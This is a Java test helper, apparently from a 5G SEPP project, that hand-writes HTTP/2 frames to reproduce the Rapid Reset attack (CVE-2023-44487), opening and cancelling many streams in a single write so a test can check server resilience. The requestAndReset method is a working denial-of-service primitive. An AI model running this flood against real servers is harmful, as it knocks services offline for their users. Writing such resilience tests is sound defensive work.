package org.keygate.sepp.consumer;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.DefaultHttp2HeadersEncoder;
import io.netty.handler.codec.http2.Http2Headers;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * An HTTP/2 client that writes frames itself (RFC 9113 4.1), so that a test can do what no well-behaved client does:
 * open a stream with HEADERS and DATA and reset it in the same write, as the Rapid Reset attack (CVE-2023-44487)
 * does. Cleartext prior knowledge only; HPACK by Netty's encoder (the one part not written here); what the server
 * sends is read and dropped by a daemon thread.
 */
final class RawH2Client implements AutoCloseable {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int DATA = 0x0;
    private static final int HEADERS = 0x1;
    private static final int RST_STREAM = 0x3;
    private static final int SETTINGS = 0x4;
    private static final int END_STREAM = 0x1;
    private static final int END_HEADERS = 0x4;
    private static final int CANCEL = 0x8;

    private final Socket socket;
    private final OutputStream out;
    private final DefaultHttp2HeadersEncoder hpack = new DefaultHttp2HeadersEncoder();
    private int nextStream = 1;

    RawH2Client(InetSocketAddress server) throws IOException {
        socket = new Socket();
        socket.connect(server, 5000);
        out = socket.getOutputStream();
        InputStream in = socket.getInputStream();
        Thread drain = new Thread(() -> {
            byte[] sink = new byte[16384];
            try {
                while (in.read(sink) >= 0) {
                    // dropped: the test looks at what reached the home side, not at these answers
                }
            } catch (IOException e) {
                // closed
            }
        }, "raw-h2-drain");
        drain.setDaemon(true);
        drain.start();
        ByteBuf b = Unpooled.buffer();
        b.writeBytes(PREFACE);
        frame(b, SETTINGS, 0, 0, Unpooled.EMPTY_BUFFER);
        write(b);
    }

    /**
     * Writes {@code count} requests, each HEADERS, DATA with END_STREAM and RST_STREAM (CANCEL) back to back, in one
     * write. Fails once the server has closed the connection.
     */
    void requestAndReset(int count, String authority, String path, String[] headers, byte[] body) throws IOException {
        ByteBuf b = Unpooled.buffer();
        for (int i = 0; i < count; i++) {
            int id = nextStream;
            nextStream += 2;
            Http2Headers h = new DefaultHttp2Headers().method("POST").scheme("http").authority(authority).path(path);
            for (int k = 0; k < headers.length; k += 2) {
                h.add(headers[k], headers[k + 1]);
            }
            ByteBuf block = Unpooled.buffer();
            try {
                hpack.encodeHeaders(id, h, block);
            } catch (io.netty.handler.codec.http2.Http2Exception e) {
                throw new IOException(e);
            }
            frame(b, HEADERS, END_HEADERS, id, block);
            frame(b, DATA, END_STREAM, id, Unpooled.wrappedBuffer(body));
            frame(b, RST_STREAM, 0, id, Unpooled.buffer(4).writeInt(CANCEL));
        }
        write(b);
    }

    private static void frame(ByteBuf out, int type, int flags, int stream, ByteBuf payload) {
        out.writeMedium(payload.readableBytes());
        out.writeByte(type);
        out.writeByte(flags);
        out.writeInt(stream);
        out.writeBytes(payload);
        payload.release();
    }

    private void write(ByteBuf b) throws IOException {
        try {
            out.write(b.array(), b.arrayOffset() + b.readerIndex(), b.readableBytes());
            out.flush();
        } finally {
            b.release();
        }
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
